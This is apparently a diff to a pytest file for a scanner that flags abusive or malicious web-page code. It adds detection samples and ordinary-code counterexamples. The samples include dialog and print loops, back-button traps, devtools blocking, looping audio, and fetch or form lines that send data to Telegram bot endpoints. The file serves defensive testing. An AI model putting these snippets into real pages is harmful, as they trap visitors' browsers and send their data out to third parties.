@@ -59,6 +59,28 @@ TOKEN = "123456789:AA" + "x" * 33
         ("<video autoplay loop src=alarm.mp4></video>", ("behaviour", "audio-autoplay", "")),
         ("window.onhashchange=function(){location.hash='no-back'}", ("behaviour", "history-trap", "")),
         ("document.onkeydown=e=>e.preventDefault()", ("behaviour", "keyboard-lock", "")),
+        ("for(;;){window['alert']('x')}", ("behaviour", "dialog-loop", "")),
+        ("let f=alert;while(1)f('x')", ("behaviour", "dialog-loop", "")),
+        ("while(confirm('x')||1);", ("behaviour", "dialog-loop", "")),
+        ("while(!confirm('x'));", ("behaviour", "dialog-loop", "")),
+        ("setInterval(alert,500,'x')", ("behaviour", "dialog-loop", "")),
+        ("setInterval(\"alert('x')\",100)", ("behaviour", "dialog-loop", "")),
+        ("setInterval(()=>alert('x'),100)", ("behaviour", "dialog-loop", "")),
+        ("setInterval(function(){if(document.hasFocus()){alert('x')}},100)", ("behaviour", "dialog-loop", "")),
+        ("function f(){alert(1);requestAnimationFrame(f)}f()", ("behaviour", "dialog-loop", "")),
+        ("for(let i=0;i<1e9;i++)alert('x')", ("behaviour", "dialog-loop", "")),
+        ("while(1){try{go('(')}catch(e){}alert('x')}", ("behaviour", "dialog-loop", "")),
+        ("while(1)window.print()", ("behaviour", "print-loop", "")),
+        ("addEventListener('mousedown',e=>{if(e.button==2)e.preventDefault()})", ("behaviour", "no-context-menu", "")),
+        ("onkeydown=e=>{switch(e.keyCode){case 123:e.preventDefault()}}", ("behaviour", "devtools-block", "")),
+        ("if([123,116].indexOf(e.keyCode)>-1)return false", ("behaviour", "devtools-block", "")),
+        ("if(outerWidth-innerWidth>160){stop()}", ("behaviour", "devtools-block", "")),
+        ('<body onload="beep.play()">', ("behaviour", "audio-autoplay", "")),
+        ("var a=new Audio('x.mp3');a.loop=true;a.play()", ("behaviour", "audio-autoplay", "")),
+        ("var a=new Audio('x.mp3');document.onclick=function(){a.play()}", ("behaviour", "audio-autoplay", "")),
+        ("window.onpopstate=()=>history.go(1)", ("behaviour", "history-trap", "")),
+        ("onpopstate=function(){location.href='https://a.top'}", ("behaviour", "history-trap", "")),
+        ("for(i=0;i<50;i++)history.pushState({},'','#'+i)", ("behaviour", "history-trap", "")),
         ("phantom.solana.connect()", ("wallet", "connect", "")),
         ("createAppKit({adapters})", ("wallet", "connect", "")),
         ("okxwallet.request({method:'eth_accounts'})", ("wallet", "connect", "")),
@@ -76,6 +98,10 @@ TOKEN = "123456789:AA" + "x" * 33
         ("token.increaseAllowance(a,b)", ("wallet", "increaseAllowance", "")),
         ("signer.signTypedData({Permit:1})", ("wallet", "sign", "")),
         (f"fetch('https://api.telegram.org/bot{TOKEN}/sendMessage')", ("exfil", "telegram-bot", "")),
+        ("fetch('https://api.telegram.org/bot'+t+'/sendMessage')", ("exfil", "telegram-bot", "")),
+        ("fetch(`https://api.telegram.org/bot${t}/sendMessage`)", ("exfil", "telegram-bot", "")),
+        ('{"u":"https:\\/\\/api.telegram.org\\/bot123456789:AA"}', ("exfil", "telegram-bot", "")),
+        ("<form action=https://api.telegram.org/bot123456789:AA/sendMessage>", ("exfil", "telegram-bot", "")),
         (f"var t='{TOKEN}'", ("exfil", "telegram-bot", "")),
         ("https://discord.com/api/webhooks/123456789/abc", ("exfil", "discord-webhook", "")),
         ("gtag('config','G-AB12CD34EF')", ("tracker", "google-analytics", "G-AB12CD34EF")),
@@ -192,6 +218,29 @@ def test_a_mark_is_found_in_the_code_that_makes_it(source: str, mark: tuple[str,
         '<a data-oaid="1234567890123456789" class="zalo-follow">',
         "_hmt.push(['_trackEvent','a'])",
         "u='/img/bot.png'; v='/sendMessage'",
+        "<p>Docs: call https://api.telegram.org/bot&lt;token&gt;/getMe</p>",
+        "<pre>curl 'https://api.telegram.org/bot&lt;token&gt;/sendMessage' -d text=hi</pre>",
+        "<code>requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage')</code>",
+        "<p>A bot answers at https://api.telegram.org/botTOKEN/sendMessage</p>",
+        "setInterval(a,9);alert(1)",
+        "setInterval(function(){x=')'},9);alert(1)",
+        "for(i=0;i<20;i++)a();alert(1)",
+        "for(let i=0;i<20;i++){rows[i].onclick=function(){alert(i)}}",
+        "for(var i=0;i<10;i++){if(f[i].value==''){alert('Fill');return false}}",
+        "for(;;){if(a)break}alert('x')",
+        "setInterval(function(){if(t<=0){clearInterval(x);alert('Time is up')}},1000)",
+        "setInterval(a,9);b.onclick=()=>print()",
+        "setInterval(function(){tick()},1000);$('#p').click(function(){window.print()})",
+        "addEventListener('popstate',()=>{show(location.pathname)})",
+        "window.onpopstate=render;function go(u){history.pushState(null,'',u);render()}",
+        "for(const a of links){a.onclick=()=>{history.pushState(0,'',a.href)}}",
+        "$(window).on('popstate',function(){location.reload()})",
+        "new Audio('ding.mp3')",
+        "const ding=new Audio('d.mp3');btn.addEventListener('click',()=>ding.play())",
+        "if(e.which===123){open()}",
+        "switch(e.keyCode){case 123: insert('{');break}",
+        "var w=outerWidth - innerWidth;",
+        "canvas.addEventListener('mousedown',e=>{if(e.button==2)pan=true})",
     ],
 )
 def test_ordinary_code_bears_no_mark(source: str) -> None:
@@ -213,11 +262,12 @@ def test_a_flood_of_marks_hides_none() -> None:
 
 @pytest.mark.parametrize("rule", load_rules(), ids=lambda rule: f"{rule.kind} {rule.name}")
 def test_no_expression_of_a_rule_is_slow(rule: object) -> None:
-    expressions = [e for e in (rule.near, rule.identity) if e is not None]  # type: ignore[attr-defined]
+    expressions = [e for e in (rule.near, rule.unless, rule.inside, rule.identity) if e is not None]  # type: ignore[attr-defined]
     window = rule.before + rule.after  # type: ignore[attr-defined]
     seeds = (b"(", b"a", b" ", b"setInterval(", b"for(;", b"while(", b'"', b"popstate", b"1", b"history.", b"'/(", b"A1")
     seeds += (b"function a(){alert(", b"do{alert(", b"<video autoplay ", b"a=document.getElementById('audio')", b"id:'", b"ctrlKey")
     seeds += (b"a=async function(", b"aa=a{", b"fbq:1234567890123")
+    seeds += (b"while(1)", b"setInterval(()=>", b"if(", b"if{", b"=alert;", b"onpopstate=(", b"play(", b"a[", b"outer", b"mousedown button")
     for expression in expressions:
         for seed in seeds:
             attack = (seed * (window // len(seed) + 1))[:window]
@@ -227,6 +277,7 @@ def test_no_expression_of_a_rule_is_slow(rule: object) -> None:
 @pytest.mark.parametrize(
     "seed",
     [
+        *("while(alert(", "for(;;){alert(", "popstate',()=>{history.go(", "new Audio(", "[123]", "case 123:key ", "=alert;while(1)"),
         *("alert(", "debugger;", "countdown", ".approve(", "tawk.to/chat/", "'GTM-ABCD", 'popstate"', "hm.baidu.com/hm.js"),
         *("function a(){alert(", "<video autoplay ", "<audio ", "a=document.getElementById('audio').play(", "%3dsdk.51.la", "'+'g/bot"),
     ],
